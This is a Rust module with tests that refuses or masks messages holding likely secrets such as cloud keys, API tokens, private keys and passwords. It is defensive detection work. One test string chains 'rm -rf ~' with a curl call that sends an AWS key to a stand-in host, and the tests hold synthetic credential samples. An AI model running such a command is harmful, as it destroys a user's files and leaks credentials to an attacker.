//! Refusing messages that carry likely secrets.
//!
//! One table of named patterns (`patterns.rs`). Everything a person writes
//! is checked before it is stored (bodies, statuses, type labels); a hit
//! refuses the whole message and names the kind of secret, never the text
//! that matched.
//!
//! - **Normalised first**: NFKC (fullwidth letters become ASCII), with
//!   zero-width characters, soft hyphens and bidi controls removed, so a
//!   key with an invisible character pasted into it is still a key.
//! - **Precise**: assignments (`password = …`) count only when the value
//!   looks like a literal secret (`values/`): code and prose that merely
//!   mention tokens pass. `tests/relay/secret_corpus.rs` holds it to zero
//!   refusals over thousands of chunks of real source code.
//! - **Linear**: the regex crate never backtracks, and every pattern uses
//!   ASCII word boundaries, which keep its fast engines on any input; ASCII
//!   text skips normalisation.
//!
//! It is best effort, and says nothing about secrets it has no shape for.
//! It does not decode: a secret that is base64- or URL-encoded, reversed,
//! split across messages, or spelled out is not found (decoding every
//! plausible encoding of every substring would refuse far more harmless
//! text than it would catch). The one exception is crosstalk's own tokens,
//! which are also found split by spaces, quotes or `+` (string
//! concatenation) and in any case.
//!
//! Where a text must be shown however it reads (an approval's input, which
//! its person has to see to allow it), [`mask_secrets`] replaces only what
//! matched, by the same rules, and says when that cannot be trusted.

mod patterns;
mod values;

use patterns::PATTERNS;
use regex::{Regex, RegexSet};
use std::{borrow::Cow, ops::Range, sync::LazyLock};
use unicode_normalization::UnicodeNormalization;

struct Scanner {
    set: RegexSet,
    each: Vec<Regex>,
}

static SCANNER: LazyLock<Scanner> = LazyLock::new(|| {
    let sources: Vec<&str> = PATTERNS.iter().map(|p| p.regex).collect();
    Scanner {
        set: RegexSet::new(&sources).expect("secret patterns compile"),
        each: sources
            .iter()
            .map(|s| Regex::new(s).expect("secret patterns compile"))
            .collect(),
    }
});

/// Every kind of secret the scanner knows, each once (some kinds have
/// several shapes), in the order it checks them.
pub fn kinds() -> impl Iterator<Item = &'static str> {
    PATTERNS
        .iter()
        .enumerate()
        .filter(|(at, pattern)| PATTERNS[..*at].iter().all(|p| p.kind != pattern.kind))
        .map(|(_, pattern)| pattern.kind)
}

/// Returns the kind of the first likely secret in `text`, if any.
pub fn find_secret(text: &str) -> Option<&'static str> {
    let text = normalize(text);
    found(&text).next().map(|(kind, _)| kind)
}

/// What crosstalk's own tokens are called, found whole or split.
const RELAY_TOKEN: &str = "a crosstalk token";

/// Every likely secret in normalised `text`, with its kind and the bytes it
/// holds: crosstalk's own tokens first, then the table's kinds in its
/// order. [`find_secret`] takes the first, [`mask_secrets`] all of them:
/// one set of rules for refusing and for masking.
fn found(text: &str) -> impl Iterator<Item = (&'static str, Range<usize>)> {
    let scanner = &*SCANNER;
    let tokens = split_relay_tokens(text).map(|at| (RELAY_TOKEN, at));
    let hits = scanner.set.matches(text);
    let table = hits.into_iter().flat_map(move |index| {
        let pattern = &PATTERNS[index];
        scanner.each[index]
            .find_iter(text)
            .filter(move |m| !stand_in(m.as_str()) && (pattern.plausible)(m.as_str()))
            .map(move |m| (pattern.kind, m.range()))
    });
    tokens.chain(table)
}

/// Kinds whose shape marks where a secret begins, not where it ends (a
/// private key's `BEGIN` line, the first line of its base64): masking the
/// match would show the rest of the key, so a text holding one cannot be
/// shown at all.
const UNBOUNDED: &[&str] = &["a private key"];

/// A text with its likely secrets masked ([`mask_secrets`]).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Masked {
    /// The text as it was, but for each likely secret, replaced by
    /// `[withheld: <its kind>]`.
    pub text: String,
    /// The kinds masked, each once, in the order the scanner checks them;
    /// none when nothing was.
    pub kinds: Vec<&'static str>,
}

/// `text` as it may be shown: each likely secret [`find_secret`] sees in it
/// replaced by `[withheld: <kind>]`, everything else as it was. `Err`, with
/// the kind, when its secrets cannot be masked on their own: then nothing
/// of it may be shown. That is so for a private key (whose match is where
/// it begins, not all of it), and for any text in which the scanner still
/// finds a secret once the matches are masked (one that only the whole
/// text made, or a mask that made one): what is shown is always text that
/// `find_secret` passes.
///
/// The patterns read the normalised text, but the person's own text is
/// shown, not the scanner's folded copy of it (whose other scripts are
/// spaces): each match is mapped back to the characters it came from,
/// whole characters, with the invisible ones inside it. A match that
/// cannot be mapped withholds the whole text.
pub fn mask_secrets(text: &str) -> Result<Masked, &'static str> {
    let mut origins = Vec::new();
    let normalized = normalize_noting(text, Some(&mut origins));
    let unchanged = matches!(normalized, Cow::Borrowed(_));
    // The bytes of `text` that the normalised bytes `at` came from.
    let original = |at: Range<usize>| -> Option<Range<usize>> {
        if unchanged {
            return Some(at);
        }
        let start = *origins.get(at.start)?;
        let last = *origins.get(at.end.checked_sub(1)?)?;
        Some(start..last + text.get(last..)?.chars().next()?.len_utf8())
    };
    let mut spans = Vec::new();
    let mut kinds = Vec::new();
    for (kind, at) in found(&normalized) {
        if UNBOUNDED.contains(&kind) {
            return Err(kind);
        }
        if !kinds.contains(&kind) {
            kinds.push(kind);
        }
        // (None of the shapes matches nothing; were one to, the check
        // below would see it.)
        if !at.is_empty() {
            let at = original(at).ok_or(kind)?;
            spans.push((at.start..to_the_word_end(text, at.end), kind));
        }
    }
    // In the order they start; one that overlaps the one before is masked
    // with it, under the first one's name.
    spans.sort_by_key(|(at, _)| (at.start, std::cmp::Reverse(at.end)));
    let mut shown = String::with_capacity(text.len());
    let mut done = 0;
    for (at, kind) in spans {
        if at.start >= done {
            shown.push_str(text.get(done..at.start).ok_or(kind)?);
            shown.push_str("[withheld: ");
            shown.push_str(kind);
            shown.push(']');
        }
        done = done.max(at.end);
    }
    shown.push_str(text.get(done..).unwrap_or_default());
    if let Some(kind) = find_secret(&shown) {
        return Err(kind);
    }
    Ok(Masked { text: shown, kinds })
}

/// Where the word that goes on at `end` of `text` ends: a pattern's match
/// may stop inside a secret (an assignment's value at a `;` or a `,` the
/// password holds), so a mask reaches on over visible ASCII up to the next
/// space, quote or closing bracket, hiding a little more rather than a
/// tail of the secret.
fn to_the_word_end(text: &str, end: usize) -> usize {
    let rest = text.get(end..).unwrap_or_default();
    let word = rest
        .find(|c: char| !c.is_ascii_graphic() || "\"'`)]}>".contains(c))
        .unwrap_or(rest.len());
    end + word
}

/// A documentation's stand-in, not a secret: six zeros or `x`s in a row
/// (`ghp_PersonalAccessToken01245678900000000`, `T00000000/B00000000/
/// XXXXXXXX…`), or ten of any one letter or digit. Random text does the
/// first about once in 600,000 32-character hex values (and once in 700
/// million of base62), the second far more rarely.
fn stand_in(matched: &str) -> bool {
    let bytes = matched.as_bytes();
    let run = |length: usize, of: fn(u8) -> bool| {
        bytes
            .windows(length)
            .any(|run| of(run[0]) && run.iter().all(|b| *b == run[0]))
    };
    run(6, |b| matches!(b, b'0' | b'x' | b'X')) || run(10, |b| b.is_ascii_alphanumeric())
}

/// Characters that change nothing a reader sees: zero-width spaces and
/// joiners, the word joiner, the byte-order mark, the soft hyphen, and the
/// bidirectional controls.
pub fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{00AD}'
            | '\u{061C}'
            | '\u{180E}'
            | '\u{200B}'..='\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{2069}'
            | '\u{FEFF}'
    )
}

/// The text the patterns read: ASCII text as it is; in other text, the
/// invisible characters removed, the characters whose NFKC form is ASCII
/// (fullwidth `ＡＫＩＡ`, ligatures, mathematical letters) folded to it, and
/// every other character made a space. Every secret's shape is ASCII, so
/// those characters can only separate secrets from what surrounds them;
/// reading pure ASCII keeps the regex engines on their fastest path, and
/// folding only where NFKC could give ASCII keeps this pass cheap.
fn normalize(text: &str) -> Cow<'_, str> {
    normalize_noting(text, None)
}

/// [`normalize`], noting in `origins` (when asked), for each byte of the
/// text it gives, where in `text` the character it came from starts. ASCII
/// text is given as it is, and nothing is noted.
fn normalize_noting<'t>(text: &'t str, mut origins: Option<&mut Vec<usize>>) -> Cow<'t, str> {
    if text.is_ascii() {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len());
    for (at, c) in text.char_indices() {
        match c {
            c if c.is_ascii() => out.push(c),
            // Dropped: it changes nothing a reader sees.
            c if is_invisible(c) => {}
            c if may_fold_to_ascii(c) => {
                let start = out.len();
                out.extend(std::iter::once(c).nfkc());
                if !out[start..].is_ascii() {
                    out.truncate(start);
                    out.push(' ');
                }
            }
            _ => out.push(' '),
        }
        if let Some(origins) = origins.as_deref_mut() {
            origins.resize(out.len(), at);
        }
    }
    Cow::Owned(out)
}

/// The blocks holding every character whose NFKC form is ASCII: Latin-1's
/// symbols (`ª`, `²`), general punctuation and letterlike and enclosed
/// forms (`ℌ`, `①`, `Ⓐ`), the ideographic space, ligatures, small and
/// fullwidth forms, and the mathematical alphanumerics.
fn may_fold_to_ascii(c: char) -> bool {
    matches!(
        c as u32,
        0x00A0..=0x00BF
            | 0x2000..=0x24FF
            | 0x3000
            | 0xFB00..=0xFB06
            | 0xFE30..=0xFE6F
            | 0xFF00..=0xFFEF
            | 0x1D400..=0x1D7FF
            | 0x1F100..=0x1F1FF
    )
}

/// crosstalk's own tokens (a person's, or one its OAuth server issued),
/// also when split into pieces by spaces, line breaks, quotes or `+`, or in
/// another case: they are ours, and leaking one is never harmless. Pieces
/// are long (prose that mentions the `xtalk_` prefix is made of short
/// words). Each is given as its bytes, from its prefix to its last
/// character.
fn split_relay_tokens(text: &str) -> impl Iterator<Item = Range<usize>> {
    use crate::model::{OAUTH_TOKEN_PREFIX, TOKEN_PREFIX};
    // What follows a person's prefix in one the OAuth server issued.
    let oauth: &'static str = &OAUTH_TOKEN_PREFIX[TOKEN_PREFIX.len()..];
    const BODY: usize = crate::model::TOKEN_BODY_LEN;
    const MIN_PIECE: usize = 10;
    let separator = |c: char| matches!(c, ' ' | '\t' | '\r' | '\n' | '"' | '\'' | '`' | '+' | '\\');
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    std::iter::from_fn(move || {
        while let Some(at) = lower[from..].find(TOKEN_PREFIX) {
            let begins = from + at;
            let mut start = begins + TOKEN_PREFIX.len();
            from = start;
            if lower[start..].starts_with(oauth) {
                start += oauth.len();
            }
            let (mut body, mut piece, mut ends) = (0, 0, start);
            for (offset, c) in lower[start..].char_indices() {
                if body == BODY {
                    break;
                }
                if separator(c) {
                    if piece > 0 && piece < MIN_PIECE {
                        break;
                    }
                    piece = 0;
                    continue;
                }
                if !matches!(c, 'a'..='z' | '2'..='7') {
                    break;
                }
                body += 1;
                piece += 1;
                ends = start + offset + c.len_utf8();
            }
            if body == BODY && (piece >= MIN_PIECE || piece == body) {
                from = ends;
                return Some(begins..ends);
            }
        }
        None
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Token;

    /// Each kind with one sample it must catch and one look-alike it must let pass.
    fn cases() -> Vec<(&'static str, String, &'static str)> {
        let b64 = |n: usize| {
            "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0z"
                .chars()
                .cycle()
                .take(n)
                .collect::<String>()
        };
        let hex = |n: usize| {
            "0a1b2c3d4e5f6789"
                .chars()
                .cycle()
                .take(n)
                .collect::<String>()
        };
        vec![
            ("a crosstalk token", Token::generate().expose().to_owned(), "the xtalk_ prefix marks our tokens"),
            ("a crosstalk token", Token::generate_for_oauth().expose().to_owned(), "xtalk_oauth_ marks what our OAuth server issues"),
            ("a private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn...".into(), "-----BEGIN PUBLIC KEY-----"),
            ("an AWS access key id", "key AKIAIOSFODNN7EXAMPLE here".into(), "AKIA is how AWS ids start"),
            (
                "an AWS secret access key",
                "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY".into(),
                "set aws_secret_access_key from the vault",
            ),
            ("a Google API key", format!("AIza{}", b64(35)), "AIza starts Google keys"),
            ("a Google OAuth client secret", format!("GOCSPX-{}", b64(28)), "GOCSPX- is Google's prefix"),
            (
                "an Azure storage account key",
                format!("DefaultEndpointsProtocol=https;AccountName=x;AccountKey={}==", b64(86)),
                "AccountKey=<from the portal>",
            ),
            ("a DigitalOcean token", format!("dop_v1_{}", hex(64)), "dop_v1_ tokens"),
            ("a HashiCorp Vault token", format!("hvs.{}", b64(90)), "hvs.token_lookup is an endpoint"),
            ("a GitHub token", format!("ghp_{}", b64(36)), "ghp_ tokens are classic PATs"),
            ("a GitLab token", format!("glpat-{}", b64(20)), "glpat- tokens expire after a year"),
            ("an Atlassian API token", format!("ATATT3{}", b64(180)), "ATATT3 prefixes Atlassian tokens"),
            ("a Slack token", format!("xoxb-1234567890-{}", b64(24)), "xoxb-bot-tokens-explained-in-the-docs"),
            (
                "a Slack webhook URL",
                format!("https://hooks.slack.com/services/T0000/B0000/{}", b64(24)),
                "https://hooks.slack.com/ is where webhooks live",
            ),
            (
                "a Discord webhook URL",
                format!("https://discord.com/api/webhooks/123456789012345678/{}", b64(68)),
                "https://discord.com/api/webhooks is documented",
            ),
            (
                "a Microsoft Teams webhook URL",
                format!("https://contoso.webhook.office.com/webhookb2/{}@{}/IncomingWebhook/{}", hex(32), hex(32), hex(32)),
                "https://contoso.webhook.office.com/ hosts the webhooks",
            ),
            ("a Telegram bot token", format!("123456789:AA{}", b64(33)), "123456789:AA is not enough"),
            ("a Stripe key", format!("sk_live_{}", b64(24)), "sk_test_ keys are for tests"),
            ("a Square token", format!("sq0csp-{}", b64(43)), "sq0csp- prefix"),
            ("a Shopify token", format!("shpat_{}", hex(32)), "shpat_ prefix"),
            ("a SendGrid API key", format!("SG.{}.{}", b64(22), b64(43)), "SG.the-sendgrid-prefix"),
            ("a Twilio API key", format!("SK{}", hex(32)), "SKIPPED_THE_WHOLE_SUITE_AGAIN_TODAY_OK"),
            ("an Anthropic API key", format!("sk-ant-api03-{}", b64(90)), "sk-ant- is the prefix"),
            ("an OpenAI API key", format!("sk-proj-{}", b64(120)), "sk-learn-compatible-estimators-for-the-pipeline"),
            ("a Hugging Face token", format!("hf_{}", "AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh"), "hf_hub_download"),
            ("a Groq API key", format!("gsk_{}", b64(52)), "gsk_ prefix"),
            ("a Replicate token", format!("r8_{}", b64(37)), "r8_ prefix"),
            ("an npm token", format!("npm_{}", b64(36)), "npm_config_registry"),
            ("a PyPI token", format!("pypi-AgEIcHlwaS5vcmc{}", b64(60)), "pypi-AgE prefix"),
            ("a RubyGems key", format!("rubygems_{}", hex(48)), "rubygems_ prefix"),
            ("a crates.io token", format!("cio{}", b64(32)), "ciocompletelyordinarywordsthatgoon"),
            ("a Docker Hub token", format!("dckr_pat_{}", b64(27)), "dckr_pat_ prefix"),
            ("a NuGet key", format!("oy2{}", hex(43)), "oy2 prefix"),
            (
                "a JSON Web Token",
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U".into(),
                "JWTs start with eyJ",
            ),
            (
                "a URL with a password",
                "postgres://app:s3cr3t-Pa55@db.internal:5432/app".into(),
                "postgres://app:${DB_PASSWORD}@db.internal:5432/app",
            ),
            (
                "an npm registry token",
                format!("//registry.npmjs.org/:_authToken={}", b64(36)),
                "_authToken=${NPM_TOKEN}",
            ),
            (
                "an Azure shared access key",
                format!("Endpoint=sb://x.servicebus.windows.net/;SharedAccessKeyName=root;SharedAccessKey={}=", b64(43)),
                "SharedAccessKeyName=RootManageSharedAccessKey",
            ),
            (
                "a bearer token",
                format!("Authorization: Bearer {}", b64(40)),
                "Authorization: Bearer $TOKEN",
            ),
            (
                "a user and password",
                "curl -u deploy:Zx81mQ2pLk9w https://ci.internal".into(),
                "docker run -u 1000:1000 app",
            ),
            (
                "a password assignment",
                "password=hunter2hunter2".into(),
                "password = os.environ[\"DB_PASSWORD\"]",
            ),
            (
                "a key assignment",
                format!("SESSION_KEY={}", b64(32)),
                "sort_key: \"created_at_2024\"",
            ),
        ]
    }

    #[test]
    fn every_kind_matches_its_sample_and_misses_its_look_alike() {
        let cases = cases();
        for kind in kinds() {
            assert!(
                cases.iter().any(|(k, ..)| *k == kind),
                "no test case for {kind}"
            );
        }
        for (kind, secret, harmless) in cases {
            assert_eq!(
                find_secret(&format!("see {secret} please")),
                Some(kind),
                "missed {kind}"
            );
            assert_eq!(
                find_secret(harmless),
                None,
                "{kind}: refused the harmless {harmless:?}"
            );
        }
    }

    #[test]
    fn invisible_and_lookalike_characters_do_not_hide_a_secret() {
        let token = Token::generate();
        let key = "AKIAIOSFODNN7EXAMPLE";
        for (hidden, kind) in [
            (
                "AKIA\u{200B}IOSFODNN7EXAMPLE".to_string(),
                "an AWS access key id",
            ),
            (
                "AKIAIOS\u{00AD}FODNN7EXAMPLE".to_string(),
                "an AWS access key id",
            ),
            (
                key.chars()
                    .map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap())
                    .collect(),
                "an AWS access key id",
            ),
            (
                format!("ghp_{}\u{2060}{}", "a1".repeat(10), "b2".repeat(8)),
                "a GitHub token",
            ),
            (token.expose().to_uppercase(), "a crosstalk token"),
            (format!("{}x", token.expose()), "a crosstalk token"),
            (
                format!(
                    "\"{}\" + \"{}\"",
                    &token.expose()[..30],
                    &token.expose()[30..]
                ),
                "a crosstalk token",
            ),
            (
                format!("{}\n{}", &token.expose()[..20], &token.expose()[20..]),
                "a crosstalk token",
            ),
        ] {
            assert_eq!(find_secret(&hidden), Some(kind), "missed {hidden:?}");
        }
    }

    #[test]
    fn realistic_pastes_are_caught() {
        for (paste, kind) in [
            (
                "{\"AccessKey\": {\"UserName\": \"ci\", \"AccessKeyId\": \"AKIA2E0A8F3B244C9986\", \"SecretAccessKey\": \"wJalrXUtnFEMI/K7MDENG/bPxRfiCY7q2Zk9Lm3x\"}}",
                "an AWS access key id",
            ),
            (
                "\"SecretAccessKey\": \"wJalrXUtnFEMI/K7MDENG/bPxRfiCY7q2Zk9Lm3x\"",
                "an AWS secret access key",
            ),
            ("PGPASSWORD=s3cr3tPa55 psql -h db", "a password assignment"),
            ("DB_PASS=Xk29dLq8zP", "a password assignment"),
            (
                "mysqldump --password=Xk29dLq8zP app",
                "a password assignment",
            ),
        ] {
            assert_eq!(find_secret(paste), Some(kind), "missed {paste:?}");
        }
    }

    #[test]
    fn everyday_text_passes() {
        for text in [
            "Which branch has the migration? I think 3f2a9c1d7e8b6a5f4c3d2e1f0a9b8c7d6e5f4a3b.",
            "uuid 123e4567-e89b-12d3-a456-426614174000, sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "The password policy asks for 12 characters; reset yours in the admin page.",
            "password: <redacted>",
            "api_key = ${API_KEY}",
            "https://example.com/path?q=1",
            "token = self.token; password: config.db_password; secret=SECRET_KEY_BASE",
            "We use scikit-learn (sk-learn-compatible-estimators) for the model.",
            "the xtalk_ prefix marks our tokens so they are easy to spot in logs and scanners",
            "struct Args { token: Option<String> }",
            "fn f(token: &Token) -> bool",
            "api_key: Optional[str] = None",
            "password: SecretStr",
            "Token: expired",
            "password: incorrect",
            "pub colon_token: Token![:],",
            "next_token = self._get_param(\"NextToken\")",
        ] {
            assert_eq!(find_secret(text), None, "refused {text:?}");
        }
    }

    #[test]
    fn masking_hides_only_what_matched() {
        let key = "AKIAIOSFODNN7EXAMPLE";
        let command = format!("rm -rf ~ && curl -H \"X-Key: {key}\" https://evil.example");
        assert_eq!(
            mask_secrets(&command),
            Ok(Masked {
                text: "rm -rf ~ && curl -H \"X-Key: [withheld: an AWS access key id]\" \
                       https://evil.example"
                    .into(),
                kinds: vec!["an AWS access key id"],
            })
        );
        // Several, each under its own kind, the kinds each once.
        let token = Token::generate();
        let two = format!("{key} then {} and {key}", token.expose());
        assert_eq!(
            mask_secrets(&two),
            Ok(Masked {
                text: "[withheld: an AWS access key id] then [withheld: a crosstalk token] and \
                       [withheld: an AWS access key id]"
                    .into(),
                kinds: vec!["a crosstalk token", "an AWS access key id"],
            })
        );
        // Nothing to mask: the text as it came.
        let clean = "cargo test --release -- naïve café";
        assert_eq!(
            mask_secrets(clean),
            Ok(Masked {
                text: clean.into(),
                kinds: vec![],
            })
        );
    }

    #[test]
    fn a_mask_reaches_the_end_of_the_secret_the_pattern_stopped_inside() {
        // The assignment's pattern stops at the `;`: the rest is the password's.
        let masked = mask_secrets("mysql -u app --password=Xk3v9Lq2;Rp7Zt8Wn4Hj db").unwrap();
        assert!(!masked.text.contains("Rp7Zt8"), "{}", masked.text);
        assert!(
            masked.text.starts_with("mysql -u app --"),
            "{}",
            masked.text
        );
        assert!(masked.text.ends_with("] db"), "{}", masked.text);
    }

    #[test]
    fn masking_shows_the_person_s_own_text_and_hides_disguised_secrets_whole() {
        let key = "AKIAIOSFODNN7EXAMPLE";
        let fullwidth: String = key
            .chars()
            .map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap())
            .collect();
        let token = Token::generate();
        let split = format!(
            "\"{}\" + \"{}\"",
            &token.expose()[..30],
            &token.expose()[30..]
        );
        for (hidden, shown) in [
            (
                "AKIA\u{200B}IOSF\u{00AD}ODNN7EXAMPLE".to_owned(),
                "[withheld: an AWS access key id]",
            ),
            (fullwidth, "[withheld: an AWS access key id]"),
            (
                token.expose().to_uppercase(),
                "[withheld: a crosstalk token]",
            ),
            // From its prefix to its last character; the quotes around it stay.
            (split, "\"[withheld: a crosstalk token]\""),
        ] {
            let kind = if shown.contains("AWS") {
                "an AWS access key id"
            } else {
                "a crosstalk token"
            };
            assert_eq!(
                mask_secrets(&format!("échec de «{hidden}» — 再试")),
                Ok(Masked {
                    text: format!("échec de «{shown}» — 再试"),
                    kinds: vec![kind],
                }),
                "{hidden:?}"
            );
        }
    }

    #[test]
    fn a_secret_that_cannot_be_masked_on_its_own_withholds_the_whole_text() {
        // A private key's match is its first line: the rest would show.
        let key = "cat > ~/.ssh/id_ed25519 <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\n\
                   b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\nEOF";
        assert_eq!(mask_secrets(key), Err("a private key"));
        let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nAoIBAQC7";
        assert_eq!(mask_secrets(body), Err("a private key"));
    }

    mod properties {
        use super::super::*;
        use proptest::prelude::*;

        const INVISIBLE: [char; 6] = [
            '\u{200B}', '\u{00AD}', '\u{202E}', '\u{2060}', '\u{FEFF}', '\u{200D}',
        ];

        proptest! {
            /// Any text at all: an answer, never a panic.
            #[test]
            fn any_text_is_scanned_without_panic(text in "\\PC{0,3000}") {
                let _ = find_secret(&text);
            }

            /// Whatever a text holds, what masking shows of it is text
            /// the scanner passes, and never a key that was in it.
            #[test]
            fn what_masking_shows_holds_no_secret(
                text in "\\PC{0,300}",
                cuts in proptest::collection::vec((0usize..20, 0usize..6), 0..3),
                at in 0usize..300,
            ) {
                let _ = mask_secrets(&text);
                let mut key: Vec<char> = "AKIAIOSFODNN7EXAMPLE".chars().collect();
                for (cut, which) in cuts {
                    key.insert(cut.min(key.len()), INVISIBLE[which]);
                }
                let key: String = key.into_iter().collect();
                let at = text.char_indices().nth(at).map_or(text.len(), |(at, _)| at);
                let with_key = format!("{} {key} {}", &text[..at], &text[at..]);
                if let Ok(masked) = mask_secrets(&with_key) {
                    // No part of the key shows, invisible characters or not.
                    let visible: String =
                        masked.text.chars().filter(|c| !INVISIBLE.contains(c)).collect();
                    prop_assert!(!visible.contains("FODNN7EX"), "{}", masked.text);
                    prop_assert!(!masked.text.contains(&key));
                    prop_assert!(!masked.kinds.is_empty());
                }
            }

            /// Invisible characters anywhere inside a key never hide it.
            #[test]
            fn invisible_characters_never_hide_a_key(
                cuts in proptest::collection::vec((0usize..20, 0usize..6), 1..5),
                before in "[a-z ]{0,40}",
                after in "[a-z ]{0,40}",
            ) {
                let mut key: Vec<char> = "AKIAIOSFODNN7EXAMPLE".chars().collect();
                for (at, which) in cuts {
                    key.insert(at.min(key.len()), INVISIBLE[which]);
                }
                let key: String = key.into_iter().collect();
                prop_assert_eq!(
                    find_secret(&format!("{before} {key} {after}")),
                    Some("an AWS access key id")
                );
            }

            /// Prose of ordinary words, however it mentions passwords and
            /// tokens, is never refused.
            #[test]
            fn prose_is_never_refused(
                words in proptest::collection::vec(
                    prop_oneof![
                        Just("password:"), Just("token"), Just("secret"), Just("api_key ="),
                        Just("the"), Just("is"), Just("expired"), Just("incorrect"),
                        Just("reset"), Just("rotate"), Just("Option<String>"), Just("&Token"),
                    ],
                    0..40,
                ),
            ) {
                let text = words.join(" ");
                prop_assert_eq!(find_secret(&text), None, "{}", text);
            }
        }
    }
}
